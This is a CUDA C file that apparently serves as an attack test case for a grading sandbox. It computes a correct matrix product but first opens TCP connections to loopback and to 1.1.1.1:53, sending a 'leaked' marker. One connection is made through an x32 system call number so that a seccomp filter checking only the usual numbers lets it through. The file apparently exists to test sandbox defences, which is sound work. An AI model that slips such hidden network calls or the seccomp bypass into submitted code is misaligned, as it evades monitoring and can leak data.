// attack: does the lab, and opens network connections (to the grading
// machine's loopback and to the outside; a socket also through the x32
// system call number) to send its inputs away
// expect: full
#include "lab.h"
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>


__global__ void MatrixMulKernel(const float *M, const float *N, float *P, int Width)
{
    int Row = blockIdx.y * blockDim.y + threadIdx.y;
    int Col = blockIdx.x * blockDim.x + threadIdx.x;
    if (Row < Width && Col < Width) {
        float Pvalue = 0;
        for (int k = 0; k < Width; ++k)
            Pvalue += M[Row * Width + k] * N[k * Width + Col];
        P[Row * Width + Col] = Pvalue;
    }
}

static void honest(const float *M, const float *N, float *P, int width)
{
    size_t bytes = (size_t)width * width * sizeof(float);
    float *d_M, *d_N, *d_P;
    CUDA_CHECK(cudaMalloc((void **)&d_M, bytes));
    CUDA_CHECK(cudaMalloc((void **)&d_N, bytes));
    CUDA_CHECK(cudaMalloc((void **)&d_P, bytes));
    CUDA_CHECK(cudaMemcpy(d_M, M, bytes, cudaMemcpyHostToDevice));
    CUDA_CHECK(cudaMemcpy(d_N, N, bytes, cudaMemcpyHostToDevice));
    dim3 block(16, 16), grid((width + 15) / 16, (width + 15) / 16);
    MatrixMulKernel<<<grid, block>>>(d_M, d_N, d_P, width);
    CUDA_CHECK(cudaGetLastError());
    CUDA_CHECK(cudaMemcpy(P, d_P, bytes, cudaMemcpyDeviceToHost));
    CUDA_CHECK(cudaFree(d_M));
    CUDA_CHECK(cudaFree(d_N));
    CUDA_CHECK(cudaFree(d_P));
}

#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>

#include <sys/syscall.h>

/* socket() by x86-64's x32 system call number, which a seccomp filter that
 * checks only the usual numbers lets through; -1 elsewhere */
static int x32_socket(void)
{
#if defined(__x86_64__)
    return (int)syscall(0x40000000L | SYS_socket, AF_INET, SOCK_STREAM, 0);
#else
    return -1;
#endif
}

static void send_to(const char *ip, int port, int x32)
{
    int s = x32 ? x32_socket() : socket(AF_INET, SOCK_STREAM, 0);
    if (s < 0)
        return;
    struct sockaddr_in a;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons((unsigned short)port);
    inet_pton(AF_INET, ip, &a.sin_addr);
    if (connect(s, (struct sockaddr *)&a, sizeof a) == 0) {
        if (write(s, "@MARK@ leaked\n", 14) > 0)
            fprintf(stderr, "connected to %s:%d\n", ip, port);
    } else {
        perror("connect");
    }
    close(s);
}

void basic_matmul(const float *M, const float *N, float *P, int width)
{
    send_to("127.0.0.1", @PORT@, 0);
    send_to("127.0.0.1", @PORT@, 1);
    send_to("1.1.1.1", 53, 0);
    honest(M, N, P, width);
}
